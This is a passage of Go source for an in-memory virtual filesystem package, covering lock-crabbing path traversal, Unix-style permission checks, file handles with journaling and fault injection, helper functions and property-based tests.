		mode:     fs.ModeDir | 0o755,
		uid:      0,
		mtime:    f.now(),
		children: make(map[string]*node),
	}
	return f
}

// SetClock replaces the timestamp source; used by tests for determinism.
func (f *FS) SetClock(clock func() time.Time) {
	f.clock.Store(clock)
}

func (f *FS) now() time.Time {
	return f.clock.Load().(func() time.Time)()
}

// LockStats returns a snapshot of the lock-contention counters.
func (f *FS) LockStats() LockStats {
	return LockStats{
		NodeAcquisitions: f.nodeAcq.Load(),
		NodeBlocked:      f.nodeBlocked.Load(),
		RenameBarriers:   f.renames.Load(),
	}
}

// lockNode write-locks n, counting the acquisition and whether it had
// to wait.
func (f *FS) lockNode(n *node) {
	f.nodeAcq.Add(1)
	if !n.mu.TryLock() {
		f.nodeBlocked.Add(1)
		n.mu.Lock()
	}
}

// rlockNode read-locks n, counting the acquisition and whether it had
// to wait.
func (f *FS) rlockNode(n *node) {
	f.nodeAcq.Add(1)
	if !n.mu.TryRLock() {
		f.nodeBlocked.Add(1)
		n.mu.RLock()
	}
}

// split cleans name into path elements. An empty slice means the root.
func split(name string) []string {
	cleaned := Clean(name)
	if cleaned == "/" {
		return nil
	}
	return strings.Split(cleaned[1:], "/")
}

// pathIter yields the elements of a path one at a time without
// allocating (given an already-canonical name, which Clean returns
// unmodified). The zero rest means the iteration is done.
type pathIter struct {
	rest string
}

func newPathIter(name string) pathIter {
	cleaned := Clean(name)
	if cleaned == "/" {
		return pathIter{}
	}
	return pathIter{rest: cleaned[1:]}
}

func (it *pathIter) next() (elem string, ok bool) {
	if it.rest == "" {
		return "", false
	}
	if i := strings.IndexByte(it.rest, '/'); i >= 0 {
		elem, it.rest = it.rest[:i], it.rest[i+1:]
	} else {
		elem, it.rest = it.rest, ""
	}
	return elem, true
}

// Clean normalizes a path to the canonical absolute form used by this
// package ("/a/b"; "/" for the root). Already-canonical paths — the
// overwhelmingly common case on the resolution hot path — are returned
// as-is without allocating.
func Clean(name string) string {
	if isCanonical(name) {
		return name
	}
	return path.Clean("/" + name)
}

// isCanonical reports whether name is already in canonical form: "/",
// or "/"-rooted with no trailing slash, no empty segments, and no "."
// or ".." segments.
func isCanonical(name string) bool {
	if name == "/" {
		return true
	}
	if len(name) == 0 || name[0] != '/' || name[len(name)-1] == '/' {
		return false
	}
	segStart := 1
	for i := 1; i <= len(name); i++ {
		if i == len(name) || name[i] == '/' {
			seg := name[segStart:i]
			if len(seg) == 0 || seg == "." || seg == ".." {
				return false
			}
			segStart = i + 1
		}
	}
	return true
}

type permClass int

const (
	permRead permClass = iota
	permWrite
	permExec
)

// allowed reports whether cred may perform the given class of access on n.
func allowed(c Cred, n *node, class permClass) bool {
	if c.UID == 0 {
		return true
	}
	perm := n.mode.Perm()
	var bit fs.FileMode
	switch class {
	case permRead:
		bit = 0o4
	case permWrite:
		bit = 0o2
	case permExec:
		bit = 0o1
	}
	if c.UID == n.uid {
		return perm&(bit<<6) != 0
	}
	return perm&bit != 0
}

// walkNode crabs down the tree to name, enforcing search (execute)
// permission on every intermediate directory, as Unix does. This is
// what makes "a path that only root can directly access" (paper §4.2)
// effective for the delegate branch directories.
//
// The caller must hold treeMu shared. At most two node locks are held
// at any moment (parent read-locked, then child locked, then parent
// released). On success the final node is returned locked: write-locked
// when writeLast is set, read-locked otherwise; the caller must unlock
// it. On error no locks are held.
func (f *FS) walkNode(c Cred, name string, writeLast bool) (*node, error) {
	it := newPathIter(name)
	cur := f.root
	elem, more := it.next()
	if !more {
		if writeLast {
			f.lockNode(cur)
		} else {
			f.rlockNode(cur)
		}
		return cur, nil
	}
	f.rlockNode(cur)
	for {
		if !cur.isDir() {
			cur.mu.RUnlock()
			return nil, &fs.PathError{Op: "lookup", Path: name, Err: ErrNotDir}
		}
		if !allowed(c, cur, permExec) {
			cur.mu.RUnlock()
			return nil, &fs.PathError{Op: "lookup", Path: name, Err: ErrPermission}
		}
		next, ok := cur.children[elem]
		if !ok {
			cur.mu.RUnlock()
			return nil, &fs.PathError{Op: "lookup", Path: name, Err: ErrNotExist}
		}
		elem, more = it.next()
		if !more && writeLast {
			f.lockNode(next)
		} else {
			f.rlockNode(next)
		}
		cur.mu.RUnlock()
		cur = next
		if !more {
			return cur, nil
		}
	}
}

// walkParent crabs to the parent directory of name and returns it
// locked (write-locked when writeParent is set) along with the final
// path element. The caller must hold treeMu shared and unlock the
// returned node.
func (f *FS) walkParent(c Cred, name string, writeParent bool) (*node, string, error) {
	cleaned := Clean(name)
	if cleaned == "/" {
		return nil, "", &fs.PathError{Op: "lookup", Path: name, Err: ErrInvalid}
	}
	i := strings.LastIndexByte(cleaned, '/')
	dir, base := cleaned[:i], cleaned[i+1:]
	if dir == "" {
		dir = "/"
	}
	parent, err := f.walkNode(c, dir, writeParent)
	if err != nil {
		return nil, "", err
	}
	if !parent.isDir() {
		unlock(parent, writeParent)
		return nil, "", &fs.PathError{Op: "lookup", Path: name, Err: ErrNotDir}
	}
	return parent, base, nil
}

func unlock(n *node, write bool) {
	if write {
		n.mu.Unlock()
	} else {
		n.mu.RUnlock()
	}
}

// lookupAs walks the tree without taking node locks. Only Rename may
// use it, under the exclusive rename barrier that excludes all other
// path operations.
func (f *FS) lookupAs(c Cred, name string) (*node, error) {
	cur := f.root
	for _, elem := range split(name) {
		if !cur.isDir() {
			return nil, &fs.PathError{Op: "lookup", Path: name, Err: ErrNotDir}
		}
		if !allowed(c, cur, permExec) {
			return nil, &fs.PathError{Op: "lookup", Path: name, Err: ErrPermission}
		}
		next, ok := cur.children[elem]
		if !ok {
			return nil, &fs.PathError{Op: "lookup", Path: name, Err: ErrNotExist}
		}
		cur = next
	}
	return cur, nil
}

// lookupParent is lookupAs for the parent directory; Rename-only, like
// lookupAs.
func (f *FS) lookupParent(c Cred, name string) (*node, string, error) {
	elems := split(name)
	if len(elems) == 0 {
		return nil, "", &fs.PathError{Op: "lookup", Path: name, Err: ErrInvalid}
	}
	parent, err := f.lookupAs(c, path.Dir(Clean(name)))
	if err != nil {
		return nil, "", err
	}
	if !parent.isDir() {
		return nil, "", &fs.PathError{Op: "lookup", Path: name, Err: ErrNotDir}
	}
	return parent, elems[len(elems)-1], nil
}

// Stat returns metadata for the named file.
func (f *FS) Stat(c Cred, name string) (FileInfo, error) {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	n, err := f.walkNode(c, name, false)
	if err != nil {
		return FileInfo{}, err
	}
	info := n.info()
	n.mu.RUnlock()
	return info, nil
}

// ReadDir lists the named directory, sorted by entry name.
func (f *FS) ReadDir(c Cred, name string) ([]DirEntry, error) {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	n, err := f.walkNode(c, name, false)
	if err != nil {
		return nil, err
	}
	defer n.mu.RUnlock()
	if !n.isDir() {
		return nil, &fs.PathError{Op: "readdir", Path: name, Err: ErrNotDir}
	}
	if !allowed(c, n, permRead) {
		return nil, &fs.PathError{Op: "readdir", Path: name, Err: ErrPermission}
	}
	entries := make([]DirEntry, 0, len(n.children))
	for _, child := range n.children {
		entries = append(entries, DirEntry{Name: child.name, Mode: child.mode, UID: child.uid})
	}
	sort.Slice(entries, func(i, j int) bool { return entries[i].Name < entries[j].Name })
	return entries, nil
}

// Mkdir creates the named directory.
func (f *FS) Mkdir(c Cred, name string, perm fs.FileMode) error {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	return f.mkdirStep(c, name, perm)
}

// mkdirStep creates one directory. The caller must hold treeMu shared.
func (f *FS) mkdirStep(c Cred, name string, perm fs.FileMode) error {
	parent, base, err := f.walkParent(c, name, true)
	if err != nil {
		return err
	}
	defer parent.mu.Unlock()
	if !allowed(c, parent, permWrite) {
		return &fs.PathError{Op: "mkdir", Path: name, Err: ErrPermission}
	}
	if _, ok := parent.children[base]; ok {
		return &fs.PathError{Op: "mkdir", Path: name, Err: ErrExist}
	}
	if gerr := f.writeGate(); gerr != nil {
		return &fs.PathError{Op: "mkdir", Path: name, Err: gerr}
	}
	parent.children[base] = &node{
		name:     base,
		mode:     fs.ModeDir | perm.Perm(),
		uid:      c.UID,
		mtime:    f.now(),
		children: make(map[string]*node),
	}
	parent.mtime = f.now()
	if j := f.journal(); j != nil {
		return j.Mkdir(Clean(name), perm.Perm(), c.UID)
	}
	return nil
}

// MkdirAll creates the named directory and any missing parents. Existing
// directories along the path are left untouched.
func (f *FS) MkdirAll(c Cred, name string, perm fs.FileMode) error {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	elems := split(name)
	cur := "/"
	for _, elem := range elems {
		cur = path.Join(cur, elem)
		n, err := f.walkNode(c, cur, false)
		if err == nil {
			isDir := n.isDir()
			n.mu.RUnlock()
			if !isDir {
				return &fs.PathError{Op: "mkdir", Path: cur, Err: ErrNotDir}
			}
			continue
		}
		mkErr := f.mkdirStep(c, cur, perm)
		if mkErr == nil {
			continue
		}
		if errors.Is(mkErr, ErrExist) {
			// Lost a creation race with a concurrent MkdirAll; fine as
			// long as what exists is a directory.
			if n, err := f.walkNode(c, cur, false); err == nil {
				isDir := n.isDir()
				n.mu.RUnlock()
				if isDir {
					continue
				}
				return &fs.PathError{Op: "mkdir", Path: cur, Err: ErrNotDir}
			}
		}
		return mkErr
	}
	return nil
}

// Remove deletes the named file or empty directory.
func (f *FS) Remove(c Cred, name string) error {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	parent, base, err := f.walkParent(c, name, true)
	if err != nil {
		return err
	}
	defer parent.mu.Unlock()
	n, ok := parent.children[base]
	if !ok {
		return &fs.PathError{Op: "remove", Path: name, Err: ErrNotExist}
	}
	if !allowed(c, parent, permWrite) {
		return &fs.PathError{Op: "remove", Path: name, Err: ErrPermission}
	}
	if n.isDir() {
		f.rlockNode(n)
		empty := len(n.children) == 0
		n.mu.RUnlock()
		if !empty {
			return &fs.PathError{Op: "remove", Path: name, Err: ErrNotEmpty}
		}
	}
	if gerr := f.writeGate(); gerr != nil {
		return &fs.PathError{Op: "remove", Path: name, Err: gerr}
	}
	delete(parent.children, base)
	parent.mtime = f.now()
	if j := f.journal(); j != nil {
		return j.Remove(Clean(name))
	}
	return nil
}

// RemoveAll deletes name and, if it is a directory, everything beneath
// it. It is not an error if the path does not exist.
func (f *FS) RemoveAll(c Cred, name string) error {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	parent, base, err := f.walkParent(c, name, true)
	if err != nil {
		if errors.Is(err, ErrNotExist) {
			return nil
		}
		return err
	}
	defer parent.mu.Unlock()
	if _, ok := parent.children[base]; !ok {
		return nil
	}
	if !allowed(c, parent, permWrite) {
		return &fs.PathError{Op: "removeall", Path: name, Err: ErrPermission}
	}
	if gerr := f.writeGate(); gerr != nil {
		return &fs.PathError{Op: "removeall", Path: name, Err: gerr}
	}
	delete(parent.children, base)
	parent.mtime = f.now()
	if j := f.journal(); j != nil {
		return j.RemoveAll(Clean(name))
	}
	return nil
}

// Rename moves oldname to newname, replacing any existing file at
// newname. Renaming over a non-empty directory fails.
//
// Rename is the one operation involving two parent directories, so it
// takes the tree-wide barrier exclusively instead of crabbing; this
// keeps every other operation's parent-then-child lock order trivially
// deadlock-free (the s_vfs_rename_mutex approach).
func (f *FS) Rename(c Cred, oldname, newname string) error {
	if err := fault.Hit(faultRename); err != nil {
		return &fs.PathError{Op: "rename", Path: oldname, Err: err}
	}
	f.treeMu.Lock()
	defer f.treeMu.Unlock()
	f.renames.Add(1)
	oldParent, oldBase, err := f.lookupParent(c, oldname)
	if err != nil {
		return err
	}
	n, ok := oldParent.children[oldBase]
	if !ok {
		return &fs.PathError{Op: "rename", Path: oldname, Err: ErrNotExist}
	}
	newParent, newBase, err := f.lookupParent(c, newname)
	if err != nil {
		return err
	}
	if !allowed(c, oldParent, permWrite) || !allowed(c, newParent, permWrite) {
		return &fs.PathError{Op: "rename", Path: oldname, Err: ErrPermission}
	}
	if existing, ok := newParent.children[newBase]; ok {
		if existing.isDir() && len(existing.children) > 0 {
			return &fs.PathError{Op: "rename", Path: newname, Err: ErrNotEmpty}
		}
	}
	if gerr := f.writeGate(); gerr != nil {
		return &fs.PathError{Op: "rename", Path: oldname, Err: gerr}
	}
	delete(oldParent.children, oldBase)
	// The moved node's name is visible to open handles (Stat), which
	// take only the node lock, so the write must be under it.
	n.mu.Lock()
	n.name = newBase
	n.mu.Unlock()
	newParent.children[newBase] = n
	now := f.now()
	oldParent.mtime = now
	newParent.mtime = now
	if j := f.journal(); j != nil {
		return j.Rename(Clean(oldname), Clean(newname))
	}
	return nil
}

// Chown changes the owner of the named file. Only root or the current
// owner may change ownership.
func (f *FS) Chown(c Cred, name string, uid int) error {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	n, err := f.walkNode(c, name, true)
	if err != nil {
		return err
	}
	defer n.mu.Unlock()
	if c.UID != 0 && c.UID != n.uid {
		return &fs.PathError{Op: "chown", Path: name, Err: ErrPermission}
	}
	if gerr := f.writeGate(); gerr != nil {
		return &fs.PathError{Op: "chown", Path: name, Err: gerr}
	}
	n.uid = uid
	if j := f.journal(); j != nil {
		return j.Chown(Clean(name), uid)
	}
	return nil
}

// Chmod changes the permission bits of the named file.
func (f *FS) Chmod(c Cred, name string, perm fs.FileMode) error {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()
	n, err := f.walkNode(c, name, true)
	if err != nil {
		return err
	}
	defer n.mu.Unlock()
	if c.UID != 0 && c.UID != n.uid {
		return &fs.PathError{Op: "chmod", Path: name, Err: ErrPermission}
	}
	if gerr := f.writeGate(); gerr != nil {
		return &fs.PathError{Op: "chmod", Path: name, Err: gerr}
	}
	n.mode = (n.mode &^ fs.ModePerm) | perm.Perm()
	if j := f.journal(); j != nil {
		return j.Chmod(Clean(name), perm.Perm())
	}
	return nil
}

// Open opens the named file with POSIX-like flag semantics.
func (f *FS) Open(c Cred, name string, flags int, perm fs.FileMode) (Handle, error) {
	f.treeMu.RLock()
	defer f.treeMu.RUnlock()

	cleaned := Clean(name)

	// O_TRUNC mutates the node, so the final node must be write-locked;
	// all other flag combinations only read its fields.
	nodeWrite := flags&O_TRUNC != 0

	created := false
	n, lookupErr := f.walkNode(c, name, nodeWrite)
	switch {
	case lookupErr == nil:
		if flags&O_CREATE != 0 && flags&O_EXCL != 0 {
			unlock(n, nodeWrite)
			return nil, &fs.PathError{Op: "open", Path: name, Err: ErrExist}
		}
	case errors.Is(lookupErr, ErrNotExist) && flags&O_CREATE != 0:
		parent, base, err := f.walkParent(c, name, true)
		if err != nil {
			return nil, err
		}
		if !allowed(c, parent, permWrite) {
			parent.mu.Unlock()
			return nil, &fs.PathError{Op: "open", Path: name, Err: ErrPermission}
		}
		if existing, ok := parent.children[base]; ok {
			// Lost a creation race; proceed against the winner's node
			// (O_EXCL still applies).
			if flags&O_EXCL != 0 {
				parent.mu.Unlock()
				return nil, &fs.PathError{Op: "open", Path: name, Err: ErrExist}
			}
			n = existing
		} else {
			if gerr := f.writeGate(); gerr != nil {
				parent.mu.Unlock()
				return nil, &fs.PathError{Op: "open", Path: name, Err: gerr}
			}
			n = &node{name: base, mode: perm.Perm(), uid: c.UID, mtime: f.now()}
			parent.children[base] = n
			parent.mtime = f.now()
			created = true
			if j := f.journal(); j != nil {
				if jerr := j.Create(cleaned, perm.Perm(), c.UID); jerr != nil {
					parent.mu.Unlock()
					return nil, &fs.PathError{Op: "open", Path: name, Err: jerr}
				}
			}
		}
		if nodeWrite {
			f.lockNode(n)
		} else {
			f.rlockNode(n)
		}
		parent.mu.Unlock()
	default:
		return nil, lookupErr
	}
	defer unlock(n, nodeWrite)

	if n.isDir() {
		return nil, &fs.PathError{Op: "open", Path: name, Err: ErrIsDir}
	}
	wantRead := flags&accessMask == O_RDONLY || flags&accessMask == O_RDWR
	wantWrite := flags&accessMask == O_WRONLY || flags&accessMask == O_RDWR
	if wantRead && !allowed(c, n, permRead) {
		return nil, &fs.PathError{Op: "open", Path: name, Err: ErrPermission}
	}
	if wantWrite && !allowed(c, n, permWrite) {
		return nil, &fs.PathError{Op: "open", Path: name, Err: ErrPermission}
	}
	if flags&O_TRUNC != 0 {
		if !wantWrite {
			return nil, &fs.PathError{Op: "open", Path: name, Err: ErrInvalid}
		}
		if !created {
			if gerr := f.writeGate(); gerr != nil {
				return nil, &fs.PathError{Op: "open", Path: name, Err: gerr}
			}
		}
		n.data = nil
		n.mtime = f.now()
		if !created {
			if j := f.journal(); j != nil {
				if jerr := j.Truncate(cleaned, 0); jerr != nil {
					return nil, &fs.PathError{Op: "open", Path: name, Err: jerr}
				}
			}
		}
	}
	h := &handle{fs: f, node: n, path: cleaned, read: wantRead, write: wantWrite, app: flags&O_APPEND != 0}
	return h, nil
}

// handle implements Handle over a node. Handle operations take only the
// node's own lock: they never touch tree structure, so they need no
// traversal and no rename barrier.
type handle struct {
	fs *FS
	// node is the open file; path is the name it was opened under, used
	// to label journal records. A concurrent rename leaves the handle
	// writing under its stale open-time path — a documented limitation
	// of path-keyed journaling (DESIGN.md "Durability & recovery").
	node   *node
	path   string
	offset int64
	read   bool
	write  bool
	app    bool
	closed bool
}

func (h *handle) Read(p []byte) (int, error) {
	h.fs.rlockNode(h.node)
	defer h.node.mu.RUnlock()
	if h.closed {
		return 0, ErrClosed
	}
	if !h.read {
		return 0, ErrPermission
	}
	if h.offset >= int64(len(h.node.data)) {
		return 0, io.EOF
	}
	n := copy(p, h.node.data[h.offset:])
	h.offset += int64(n)
	return n, nil
}

func (h *handle) ReadAt(p []byte, off int64) (int, error) {
	h.fs.rlockNode(h.node)
	defer h.node.mu.RUnlock()
	if h.closed {
		return 0, ErrClosed
	}
	if !h.read {
		return 0, ErrPermission
	}
	if off < 0 {
		return 0, ErrInvalid
	}
	if off >= int64(len(h.node.data)) {
		return 0, io.EOF
	}
	n := copy(p, h.node.data[off:])
	if n < len(p) {
		return n, io.EOF
	}
	return n, nil
}

func (h *handle) Write(p []byte) (int, error) {
	h.fs.lockNode(h.node)
	defer h.node.mu.Unlock()
	if h.closed {
		return 0, ErrClosed
	}
	if !h.write {
		return 0, ErrPermission
	}
	if h.app {
		h.offset = int64(len(h.node.data))
	}
	// Injected short write: persist only the prefix the fault allows,
	// then surface the error — the on-disk state is truncated exactly
	// as a real torn write would leave it.
	k, ferr := fault.PartialWrite(faultWrite, len(p))
	if ferr != nil {
		if k > 0 {
			h.writeAtLocked(p[:k], h.offset, true)
		}
		return k, ferr
	}
	return h.writeAtLocked(p, h.offset, true)
}

func (h *handle) WriteAt(p []byte, off int64) (int, error) {
	h.fs.lockNode(h.node)
	defer h.node.mu.Unlock()
	if h.closed {
		return 0, ErrClosed
	}
	if !h.write {
		return 0, ErrPermission
	}
	if off < 0 {
		return 0, ErrInvalid
	}
	return h.writeAtLocked(p, off, false)
}

// writeAtLocked writes p at off, growing the file if needed. advance
// moves the handle offset (sequential writes). Caller holds the node
// lock.
func (h *handle) writeAtLocked(p []byte, off int64, advance bool) (int, error) {
	if gerr := h.fs.writeGate(); gerr != nil {
		return 0, gerr
	}
	end := off + int64(len(p))
	if end > int64(len(h.node.data)) {
		grown := make([]byte, end)
		copy(grown, h.node.data)
		h.node.data = grown
	}
	copy(h.node.data[off:], p)
	h.node.mtime = h.fs.now()
	if advance {
		h.offset = end
	}
	if j := h.fs.journal(); j != nil {
		if err := j.WriteAt(h.path, off, p); err != nil {
			return len(p), err
		}
	}
	return len(p), nil
}

func (h *handle) Seek(offset int64, whence int) (int64, error) {
	h.fs.rlockNode(h.node)
	defer h.node.mu.RUnlock()
	if h.closed {
		return 0, ErrClosed
	}
	var base int64
	switch whence {
	case io.SeekStart:
		base = 0
	case io.SeekCurrent:
		base = h.offset
	case io.SeekEnd:
		base = int64(len(h.node.data))
	default:
		return 0, ErrInvalid
	}
	pos := base + offset
	if pos < 0 {
		return 0, ErrInvalid
	}
	h.offset = pos
	return pos, nil
}

func (h *handle) Truncate(size int64) error {
	h.fs.lockNode(h.node)
	defer h.node.mu.Unlock()
	if h.closed {
		return ErrClosed
	}
	if !h.write {
		return ErrPermission
	}
	if size < 0 {
		return ErrInvalid
	}
	if gerr := h.fs.writeGate(); gerr != nil {
		return gerr
	}
	switch {
	case size <= int64(len(h.node.data)):
		h.node.data = h.node.data[:size]
	default:
		grown := make([]byte, size)
		copy(grown, h.node.data)
		h.node.data = grown
	}
	h.node.mtime = h.fs.now()
	if j := h.fs.journal(); j != nil {
		return j.Truncate(h.path, size)
	}
	return nil
}

func (h *handle) Stat() (FileInfo, error) {
	h.fs.rlockNode(h.node)
	defer h.node.mu.RUnlock()
	if h.closed {
		return FileInfo{}, ErrClosed
	}
	return h.node.info(), nil
}

func (h *handle) Close() error {
	if h.closed {
		return ErrClosed
	}
	h.closed = true
	return nil
}
