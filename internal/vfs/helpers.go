package vfs

import (
	"errors"
	"io"
	"io/fs"
	"path"
	"sort"
	"sync"
)

// ReadFile reads the entire named file. The buffer is sized from the
// file's stat so typical reads allocate once.
func ReadFile(fsys FileSystem, c Cred, name string) ([]byte, error) {
	h, err := fsys.Open(c, name, O_RDONLY, 0)
	if err != nil {
		return nil, err
	}
	defer h.Close()
	size := int64(0)
	if fi, err := h.Stat(); err == nil && fi.Size > 0 {
		size = fi.Size
	}
	buf := make([]byte, 0, size+1) // +1 so a full read hits EOF without regrowing
	for {
		if len(buf) == cap(buf) {
			buf = append(buf, 0)[:len(buf)]
		}
		n, err := h.Read(buf[len(buf):cap(buf)])
		buf = buf[:len(buf)+n]
		if err != nil {
			if errors.Is(err, io.EOF) {
				return buf, nil
			}
			return buf, err
		}
	}
}

// WriteFile creates or truncates the named file and writes data to it.
func WriteFile(fsys FileSystem, c Cred, name string, data []byte, perm fs.FileMode) error {
	h, err := fsys.Open(c, name, O_WRONLY|O_CREATE|O_TRUNC, perm)
	if err != nil {
		return err
	}
	_, werr := h.Write(data)
	cerr := h.Close()
	if werr != nil {
		return werr
	}
	return cerr
}

// AppendFile appends data to the named file, creating it if necessary.
func AppendFile(fsys FileSystem, c Cred, name string, data []byte, perm fs.FileMode) error {
	h, err := fsys.Open(c, name, O_WRONLY|O_CREATE|O_APPEND, perm)
	if err != nil {
		return err
	}
	_, werr := h.Write(data)
	cerr := h.Close()
	if werr != nil {
		return werr
	}
	return cerr
}

// Exists reports whether the named file or directory exists (for the
// given credential's view; permission errors count as existing).
func Exists(fsys FileSystem, c Cred, name string) bool {
	_, err := fsys.Stat(c, name)
	return err == nil || !errors.Is(err, ErrNotExist)
}

// CopyFile copies src to dst within (possibly different) filesystems,
// creating parent directories of dst as needed.
func CopyFile(srcFS FileSystem, dstFS FileSystem, c Cred, src, dst string, perm fs.FileMode) error {
	data, err := ReadFile(srcFS, c, src)
	if err != nil {
		return err
	}
	if dir := path.Dir(Clean(dst)); dir != "/" {
		if err := dstFS.MkdirAll(c, dir, 0o755); err != nil {
			return err
		}
	}
	return WriteFile(dstFS, c, dst, data, perm)
}

// WalkFunc is invoked by Walk for every file and directory visited.
type WalkFunc func(name string, info FileInfo) error

// Walk traverses the tree rooted at name in lexical order, invoking fn
// for each file and directory including the root. Errors from fn abort
// the walk.
func Walk(fsys FileSystem, c Cred, name string, fn WalkFunc) error {
	info, err := fsys.Stat(c, name)
	if err != nil {
		return err
	}
	cleaned := Clean(name)
	if err := fn(cleaned, info); err != nil {
		return err
	}
	if !info.IsDir() {
		return nil
	}
	entries, err := fsys.ReadDir(c, cleaned)
	if err != nil {
		return err
	}
	sort.Slice(entries, func(i, j int) bool { return entries[i].Name < entries[j].Name })
	for _, e := range entries {
		if err := Walk(fsys, c, path.Join(cleaned, e.Name), fn); err != nil {
			return err
		}
	}
	return nil
}

// Tree returns the set of file paths (not directories) under root,
// mapped to their contents. Useful for snapshot/diff in tests and the
// state auditor.
func Tree(fsys FileSystem, c Cred, root string) (map[string][]byte, error) {
	out := make(map[string][]byte)
	err := Walk(fsys, c, root, func(name string, info FileInfo) error {
		if info.IsDir() {
			return nil
		}
		data, err := ReadFile(fsys, c, name)
		if err != nil {
			return err
		}
		out[name] = data
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}

// Sub returns a FileSystem view rooted at dir within base. All paths
// passed to the returned filesystem are interpreted relative to dir.
// The directory need not exist at call time, but operations will fail
// until it does.
func Sub(base FileSystem, dir string) FileSystem {
	return &subFS{base: base, prefix: Clean(dir)}
}

type subFS struct {
	base   FileSystem
	prefix string

	// absMemo caches name -> joined absolute path. App working sets
	// revisit a small set of paths (data files, databases, caches), so
	// memoizing the Clean + concat turns the hottest per-op string
	// allocations into a read-locked map hit. The cache is bounded; once
	// full, unseen names fall back to computing (still correct, just
	// unmemoized).
	mu      sync.RWMutex
	absMemo map[string]string
}

// absMemoMax bounds a subFS's path cache (paths are short, so this is
// a few hundred KB worst case per mount view).
const absMemoMax = 4096

func (s *subFS) abs(name string) string {
	s.mu.RLock()
	a, ok := s.absMemo[name]
	s.mu.RUnlock()
	if ok {
		return a
	}
	cleaned := Clean(name)
	switch {
	case cleaned == "/":
		a = s.prefix
	case s.prefix == "/":
		a = cleaned
	default:
		// Both sides are canonical, so plain concatenation is too.
		a = s.prefix + cleaned
	}
	s.mu.Lock()
	if s.absMemo == nil {
		s.absMemo = make(map[string]string)
	}
	if len(s.absMemo) < absMemoMax {
		s.absMemo[name] = a
	}
	s.mu.Unlock()
	return a
}

func (s *subFS) Open(c Cred, name string, flags int, perm fs.FileMode) (Handle, error) {
	return s.base.Open(c, s.abs(name), flags, perm)
}

func (s *subFS) Stat(c Cred, name string) (FileInfo, error) {
	return s.base.Stat(c, s.abs(name))
}

func (s *subFS) ReadDir(c Cred, name string) ([]DirEntry, error) {
	return s.base.ReadDir(c, s.abs(name))
}

func (s *subFS) Mkdir(c Cred, name string, perm fs.FileMode) error {
	return s.base.Mkdir(c, s.abs(name), perm)
}

func (s *subFS) MkdirAll(c Cred, name string, perm fs.FileMode) error {
	return s.base.MkdirAll(c, s.abs(name), perm)
}

func (s *subFS) Remove(c Cred, name string) error {
	return s.base.Remove(c, s.abs(name))
}

func (s *subFS) RemoveAll(c Cred, name string) error {
	return s.base.RemoveAll(c, s.abs(name))
}

func (s *subFS) Rename(c Cred, oldname, newname string) error {
	return s.base.Rename(c, s.abs(oldname), s.abs(newname))
}

func (s *subFS) Chown(c Cred, name string, uid int) error {
	return s.base.Chown(c, s.abs(name), uid)
}

func (s *subFS) Chmod(c Cred, name string, perm fs.FileMode) error {
	return s.base.Chmod(c, s.abs(name), perm)
}
