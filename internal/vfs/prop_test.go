package vfs

import (
	"bytes"
	"fmt"
	"math/rand"
	"path"
	"testing"
	"testing/quick"
)

// randPath derives a small random path from r so that collisions between
// operations are likely, exercising interesting interleavings.
func randPath(r *rand.Rand) string {
	depth := 1 + r.Intn(3)
	p := ""
	for i := 0; i < depth; i++ {
		p += fmt.Sprintf("/d%d", r.Intn(4))
	}
	return p
}

// TestPropWriteThenRead checks the fundamental read-your-writes property:
// any byte slice written to any path is read back identically.
func TestPropWriteThenRead(t *testing.T) {
	f := New()
	prop := func(data []byte, seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		name := randPath(r) + "/file"
		if err := f.MkdirAll(Root, path.Dir(name), 0o755); err != nil {
			return false
		}
		if err := WriteFile(f, Root, name, data, 0o644); err != nil {
			return false
		}
		got, err := ReadFile(f, Root, name)
		if err != nil {
			return false
		}
		return bytes.Equal(got, data)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// TestPropTruncateIdempotent checks Truncate(n);Truncate(n) equals a
// single Truncate(n), and size is always exactly n afterwards.
func TestPropTruncateIdempotent(t *testing.T) {
	f := New()
	if err := WriteFile(f, Root, "/t", make([]byte, 1024), 0o644); err != nil {
		t.Fatal(err)
	}
	prop := func(n uint16) bool {
		size := int64(n % 2048)
		h, err := f.Open(Root, "/t", O_RDWR, 0)
		if err != nil {
			return false
		}
		defer h.Close()
		if err := h.Truncate(size); err != nil {
			return false
		}
		if err := h.Truncate(size); err != nil {
			return false
		}
		info, err := h.Stat()
		return err == nil && info.Size == size
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// TestPropRenamePreservesContent checks that rename never corrupts data
// and always removes the source.
func TestPropRenamePreservesContent(t *testing.T) {
	prop := func(data []byte, a, b uint8) bool {
		f := New()
		src := fmt.Sprintf("/s%d", a%8)
		dst := fmt.Sprintf("/t%d", b%8)
		if src == dst {
			return true
		}
		if err := WriteFile(f, Root, src, data, 0o644); err != nil {
			return false
		}
		if err := f.Rename(Root, src, dst); err != nil {
			return false
		}
		if Exists(f, Root, src) {
			return false
		}
		got, err := ReadFile(f, Root, dst)
		return err == nil && bytes.Equal(got, data)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 150}); err != nil {
		t.Error(err)
	}
}

// TestPropPermissionIsolation: files created 0600 by one UID are never
// readable or writable by a different non-root UID.
func TestPropPermissionIsolation(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/p", 0o777); err != nil {
		t.Fatal(err)
	}
	counter := 0
	prop := func(owner, other uint8, data []byte) bool {
		o := Cred{UID: 1000 + int(owner)}
		x := Cred{UID: 2000 + int(other)}
		counter++
		name := fmt.Sprintf("/p/f%d", counter)
		if err := WriteFile(f, o, name, data, 0o600); err != nil {
			return false
		}
		if _, err := ReadFile(f, x, name); err == nil {
			return false
		}
		if err := WriteFile(f, x, name, []byte("x"), 0o600); err == nil {
			return false
		}
		got, err := ReadFile(f, o, name)
		return err == nil && bytes.Equal(got, data)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// TestPropRandomOps applies a random sequence of operations against both
// the vfs and a flat model map, then checks the observable file set and
